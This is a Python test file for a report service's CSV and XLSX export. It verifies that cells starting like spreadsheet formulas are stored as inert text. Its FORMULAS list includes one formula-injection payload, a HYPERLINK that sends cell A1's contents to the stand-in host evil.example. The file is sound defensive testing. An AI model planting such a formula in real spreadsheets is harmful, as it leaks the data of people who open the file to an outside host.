"""The CSV and XLSX report: text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from service.safe_text import looks_like_formula, spreadsheet_text
from service.stats.report import COLUMNS, definition, to_csv, to_xlsx
from service.stats.schemas import MonthlyReport, ReportColumn

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+86-138-0000-1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def report_with_town_names(names: list[str]) -> MonthlyReport:
    keys = [key for key, _ in COLUMNS]
    rows: list[dict[str, str | int | float | None]] = [
        {
            **dict.fromkeys(keys, 1),
            "town_code": "320583106",
            "town_name": name,
            "dispute_type": "NEIGHBOUR",
            "dispute_type_label": "邻里",
            "success_rate": 0.5,
            "amount_yuan": -12.5,  # a negative number stays a number
        }
        for name in names
    ]
    total = {**rows[0], "town_code": "", "town_name": "合计"}
    return MonthlyReport(
        month="2026-03",
        columns=[ReportColumn(key=k, heading=h, definition=definition(k)) for k, h in COLUMNS],
        rows=rows,
        total=total,
    )


def test_csv_cells_that_start_like_a_formula_are_prefixed_with_an_apostrophe() -> None:
    report = report_with_town_names([*FORMULAS, "张浦镇"])

    rows = list(csv.reader(io.StringIO(to_csv(report).decode("utf-8-sig"), newline="")))

    table = rows[: rows.index([])]  # the definitions follow a blank line
    names = [row[1] for row in table[1:-1]]
    assert names == [*("'" + f for f in FORMULAS), "张浦镇"]
    assert rows[1][-1] == "-12.5"  # numbers are not text: unchanged


def test_xlsx_cells_that_start_like_a_formula_stay_text() -> None:
    report = report_with_town_names([*FORMULAS, "张浦镇"])

    sheet = load_workbook(io.BytesIO(to_xlsx(report))).active
    cells = [sheet.cell(row=r, column=2) for r in range(2, 2 + len(FORMULAS) + 1)]

    # (XML may read a carriage return back as a line feed, depending on the parser openpyxl finds:
    # lxml, which python-docx brings, keeps it; the cell is text all the same)
    assert [c.value.replace("\r", "\n") for c in cells] == [
        *(f.replace("\r", "\n") for f in FORMULAS),
        "张浦镇",
    ]
    assert all(c.data_type == "s" for c in cells)  # never "f": Excel shows them as typed
    assert all(c.quotePrefix for c in cells[: len(FORMULAS)])
    assert sheet.cell(row=2, column=len(COLUMNS)).value == -12.5


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张浦镇", "张浦镇"),
        ("a=b", "a=b"),
        (-1, -1),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_spreadsheet_text(value: object, written: object) -> None:
    assert spreadsheet_text(value) == written


def test_what_looks_like_a_formula() -> None:
    assert all(looks_like_formula(f) for f in FORMULAS)
    assert not any(looks_like_formula(t) for t in ("张浦镇", "a=b", "", " =1"))
